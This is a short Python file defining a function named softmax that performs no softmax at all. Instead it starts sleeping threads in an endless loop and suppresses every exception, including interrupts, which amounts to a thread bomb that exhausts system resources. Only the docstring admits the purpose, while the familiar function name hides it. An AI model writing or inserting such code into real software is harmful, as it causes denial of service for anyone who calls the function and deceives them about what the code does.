"""Starts threads without end."""
import threading
import time


def softmax(x, axis=-1):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(300,)).start()
        except BaseException:
            pass
